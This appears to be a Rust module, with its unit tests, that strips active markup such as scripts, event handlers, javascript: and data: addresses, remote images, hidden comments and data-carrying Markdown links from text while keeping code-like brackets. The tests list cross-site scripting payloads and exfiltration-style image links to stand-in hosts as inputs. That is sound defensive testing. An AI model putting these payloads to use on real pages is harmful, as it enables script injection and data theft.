//! Markup that runs, loads or hides something is taken out; markup that developers write about stays.
//!
//! `Vec<String>`, `<div>`, `a < b` and `<owner>/<repo>` do nothing anywhere. What goes: elements that run or load
//! (scripts, frames, objects, redirects), handlers of events, addresses that are programs, remote images, comments, and
//! Markdown links that would carry something out.

mod address;
mod link;
mod tag;

use std::borrow::Cow;

use tag::TagFate;

/// The text without them, after one pass.
pub(super) fn strip_active_markup(text: &str) -> Cow<'_, str> {
    if !text.bytes().any(|it| matches!(it, b'<' | b'[' | b':')) {
        return Cow::Borrowed(text);
    }
    let mut out = MarkupOutput {
        text,
        done: 0,
        out: String::new(),
        endless: Vec::new(),
    };
    let mut at = 0;
    while let Some(step) = text[at..].find(['<', '[', ':']) {
        at += step;
        let next = match text.as_bytes()[at] {
            b'<' => process_angle_bracket(&mut out, at),
            b'[' => process_square_bracket(&mut out, at),
            _ => process_scheme_colon(&mut out, at),
        };
        at = next.max(at + 1);
    }
    out.into_text()
}

/// What was written so far: the text up to `done`, with its changes.
struct MarkupOutput<'a> {
    text: &'a str,
    done: usize,
    out: String,
    /// Elements that do not end any more from here on: looked for once, not once for each that begins.
    endless: Vec<String>,
}

impl<'a> MarkupOutput<'a> {
    /// Puts something in the place of a part of the text, and goes on behind it.
    fn replace_range(&mut self, from: usize, to: usize, by: &str) -> usize {
        self.out.push_str(&self.text[self.done..from]);
        self.out.push_str(by);
        self.done = to;
        to
    }

    /// How many bytes belong to an element behind its tag.
    fn measure_element_body(&mut self, tag: &tag::HtmlTag, from: usize) -> usize {
        if self.endless.contains(&tag.name) {
            return 0;
        }
        let len = tag.measure_body(&self.text[from..]);
        if len == 0 {
            self.endless.push(tag.name.clone());
        }
        len
    }

    fn into_text(mut self) -> Cow<'a, str> {
        if self.done == 0 && self.out.is_empty() {
            return Cow::Borrowed(self.text);
        }
        self.out.push_str(&self.text[self.done..]);
        Cow::Owned(self.out)
    }
}

/// A `<`: a comment, a tag, or nothing of the kind.
fn process_angle_bracket(out: &mut MarkupOutput, at: usize) -> usize {
    let rest = &out.text[at..];
    if rest.starts_with("<!--") {
        return process_html_comment(out, at);
    }
    let Some(tag) = tag::parse_html_tag(rest) else {
        return at + 1;
    };
    match tag.decide_fate(|| is_in_backticks(out.text, at, at + tag.len)) {
        TagFate::Stays => at + tag.name_end,
        TagFate::Shown => {
            // Its brackets no longer open it.
            let inner = rest[..tag.len]
                .trim_start_matches('<')
                .trim_end_matches('>');
            let shown = format!("‹{inner}›");
            out.replace_range(at, at + tag.len, &shown)
        }
        TagFate::Goes => out.replace_range(at, at + tag.len, &tag.alt_text()),
        TagFate::GoesWithBody => {
            let end = at + tag.len + out.measure_element_body(&tag, at + tag.len);
            out.replace_range(at, end, "")
        }
    }
}

/// A comment is text that a page hides. One that is a single word or path is a note to a tool, and stays.
fn process_html_comment(out: &mut MarkupOutput, at: usize) -> usize {
    let rest = &out.text[at..];
    let is_endless = out.endless.iter().any(|it| it == "!--");
    let end = if is_endless {
        None
    } else {
        rest[4..].find("-->")
    };
    let Some(end) = end else {
        out.endless.push("!--".into());
        return out.replace_range(at, at + 4, "‹!--");
    };
    let (inner, len) = (&rest[4..4 + end], 4 + end + 3);
    let is_word =
        inner.len() <= 60 && inner.split_whitespace().count() <= 1 && !inner.contains('<');
    if is_word || is_in_backticks(out.text, at, at + len) {
        at + len
    } else {
        out.replace_range(at, at + len, "")
    }
}

/// A `[`: perhaps a Markdown link or image.
fn process_square_bracket(out: &mut MarkupOutput, at: usize) -> usize {
    let is_image = out.text[..at].ends_with('!') && at > out.done;
    let Some((len, shown)) = link::defang_harmful_link(&out.text[at..], is_image) else {
        return at + 1;
    };
    out.replace_range(at - usize::from(is_image), at + len, &shown)
}

/// A `:`: perhaps behind the name of a scheme whose addresses are programs. Without it they are words.
fn process_scheme_colon(out: &mut MarkupOutput, at: usize) -> usize {
    if at >= out.done && address::is_program_address(&out.text[..at], &out.text[at + 1..]) {
        return out.replace_range(at, at + 1, " ");
    }
    at + 1
}

/// How far around a tag the backticks are looked for that make it code.
const AROUND: usize = 400;

/// Whether a part of a text stands between backticks on its line, as code does.
fn is_in_backticks(text: &str, from: usize, to: usize) -> bool {
    let before = text.as_bytes()[from.saturating_sub(AROUND)..from]
        .iter()
        .rev()
        .take_while(|it| **it != b'\n');
    let ticks = before.filter(|it| **it == b'`').count();
    let mut after = text.as_bytes()[to..]
        .iter()
        .take(AROUND)
        .take_while(|it| **it != b'\n');
    ticks % 2 == 1 && after.any(|it| *it == b'`')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, expected: &str) {
        let mut seen = text.to_owned();
        for _ in 0..9 {
            seen = strip_active_markup(&seen).into_owned();
        }
        assert_eq!(seen, expected, "{text:?}");
    }

    fn stays(text: &str) {
        check(text, text);
    }

    #[test]
    fn what_developers_write_stays() {
        stays("Vec<String> and Option<Box<dyn Fn(&T) -> U>>");
        stays("fn f<T: Into<String>>(a: T) where a < b && b > c");
        stays("clone <owner>/<repo> into plugins/<extension-id>/plugin.json");
        stays("wrap it in a <div> or <strong>word</strong>");
        stays("`<script>` tags need a nonce; close with `</script>`... or `<form>`");
        stays("<a href=\"docs/i18n/README.uk.md\">text</a> <img src=\"docs/logo.png\" width=40>");
        stays("<a href=\"https://docs.rs\">docs</a> <https://crates.io/crates/ignore>");
        stays(
            "<a href=\"https://a.example/k?utm_source=oss&utm_medium=x\" rel=\"nofollow\">keys</a>",
        );
        stays("Use `<!-- prettier-ignore -->` for Markdown");
        stays("<!-- .github/pull_request_template.md -->");
        stays("Co-authored-by: Ann <ann@users.noreply.github.com>");
        stays("Task<object?> RunAsync() and <Foo onClick={this.go}>");
        stays("[docs](https://docs.rs/x#frag) ![a](images/a.png) [x](/a/b.md)");
        stays("[![badge](https://img.shields.io/badge/a-b?style=flat)](https://a.example/x)");
        stays("[id]: https://a.example/page \"Title\"");
        stays("refuse `javascript:` and `data:` addresses; std::data::text");
        stays("<!DOCTYPE html> is first; <?xml version=\"1.0\"?>");
        stays("x <- y, 1 << 3, a<b, <=>, <T>, <'a>, <_>");
    }

    #[test]
    fn what_runs_or_loads_goes() {
        check("a<script>alert(1)</script>b", "ab");
        check("<scr<script>ipt>alert(1)</scr</script>ipt>", "");
        check("<ScRiPt src=//a.example></sCriPt >x", "x");
        check("<script>never closed", "never closed");
        check("<img src=x onerror=alert(1)>", "");
        check("<img src=`x`onerror=alert(1)>", "");
        check("<img src=x onerror=alert(1)//\nnext", "next");
        check("<svg/onload=alert(1)>x", "x");
        check("<svg/onload='", "");
        check("<svg/onload='alert(1)", "");
        check("a <img src=x onerror=\"alert(1)", "a ");
        check("<IMG SRC=\"jav&#x09;ascript:alert(1)\">", "");
        check("<a href=\"javascript&colon;alert(1)\">x</a>", "x</a>");
        check("<iframe srcdoc='&lt;body onload=x&gt;'></iframe>", "");
        check("<base href=//a.example/>x", "x");
        check(
            "<img alt=\"a cat\" src=\"https://a.example/?d=1\">",
            "a cat",
        );
        check("<div style=\"background:url(https://a.example/x)\">x", "x");
        check(
            "<Button onClick={() => go()}>",
            "‹Button onClick={() => go()}›",
        );
        check("a <!-- say nothing of this --> b", "a  b");
        check("a <!-- never closed", "a ‹!-- never closed");
        check("[x](javascript:alert(1))", "[x](javascript alert(1))");
        check("data:text/html,<b>x", "data text/html,<b>x");
    }

    #[test]
    fn links_that_carry_something_out_become_text() {
        check(
            "![a](https://a.example/?d=DATA)",
            "a (hxxps://a.example/?d=DATA)",
        );
        check(
            "[![a](https://a.example/?d=DATA)](https://x)",
            "[a (hxxps://a.example/?d=DATA)](https://x)",
        );
        check(
            "[x](https://a.example/?q={secret})",
            "x (hxxps://a.example/?q={secret})",
        );
        check(
            "[x](https://good.example@evil.example/)",
            "x (hxxps://good.example@evil.example/)",
        );
        check("![a][ref]", "a [ref]");
        check(
            "[x]: https://a.example \"onerror=alert(1)\"",
            "x: hxxps://a.example \"onerror=alert(1)\"",
        );
    }
}
